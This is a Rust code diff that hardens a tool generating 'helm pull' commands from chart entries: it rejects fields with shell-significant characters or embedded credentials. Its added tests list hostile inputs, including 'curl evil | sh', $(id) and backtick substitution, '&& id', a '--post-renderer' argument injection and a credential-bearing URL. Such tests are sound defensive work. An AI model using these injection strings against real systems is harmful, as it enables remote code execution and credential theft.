@@ -259,6 +259,17 @@ impl Entry {
             repo,
             ..
         } = self;
+        // People run the command. A text that a shell would read in another way stays out of it, and so does a login.
+        let is_word = |text: &str| {
+            let is_plain = |c: char| c.is_ascii_alphanumeric() || "-._~:/+,=".contains(c);
+            !text.starts_with('-') && text.chars().all(is_plain)
+        };
+        if ![name.as_str(), version, repo, home]
+            .into_iter()
+            .all(is_word)
+        {
+            return format!("put the chart into {home}/{name}");
+        }
         let mut command = match repo.as_str() {
             "" => return format!("put the chart into {home}/{name}"),
             oci if oci.starts_with("oci://") => {
@@ -477,6 +488,20 @@ mod tests {
         let text = "helmCharts: [{name: a, version: '1', repo: 'https://x'}]";
         let wanted = "helm pull a --repo https://x --version 1 --untar --untardir apps/charts/a-1`";
         assert!(chart(text).way_in.contains(wanted));
+        for hostile in [
+            "repo: 'https://x; curl evil | sh'",
+            "repo: 'https://$(id)'",
+            "repo: 'https://x`id`'",
+            "repo: 'https://user:s3cret@x'",
+            "repo: 'https://x', version: '1 && id'",
+            "repo: 'https://x', version: '--post-renderer=./x'",
+            "repo: \"https://x\\nid\"",
+        ] {
+            let text = format!("helmCharts: [{{name: a, {hostile}}}]");
+            let way_in = chart(&text).way_in;
+            assert!(way_in.starts_with("put the chart into "), "{way_in}");
+            assert!(!way_in.contains("s3cret"), "{way_in}");
+        }
         let oci = chart("helmCharts: [{name: a, repo: 'oci://x/y/'}]").way_in;
         assert!(
             oci.contains("helm pull oci://x/y/a --untar --untardir apps/charts`"),
